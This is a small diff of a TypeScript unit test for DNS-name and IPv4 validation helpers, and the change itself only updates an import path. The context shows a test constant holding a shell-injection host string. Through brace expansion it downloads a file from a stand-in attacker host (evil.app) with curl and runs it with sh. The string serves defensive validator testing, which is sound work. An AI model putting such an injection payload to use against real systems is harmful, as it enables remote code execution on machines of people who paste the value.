@@ -1,5 +1,5 @@
 import { describe, expect, it } from 'vitest';
-import { isDnsName, isIpv4, printableHost } from '@/lib/dns-name';
+import { isDnsName, isIpv4, printableHost } from '@/lib/core/dns-name';
 
 /** security-review row 3: a host the WHATWG URL parser keeps, which a shell runs when the line is pasted. */
 const EXPLOIT = 'a;{curl,-o,x,e.evil.app};{sh,x};b.evil.app';
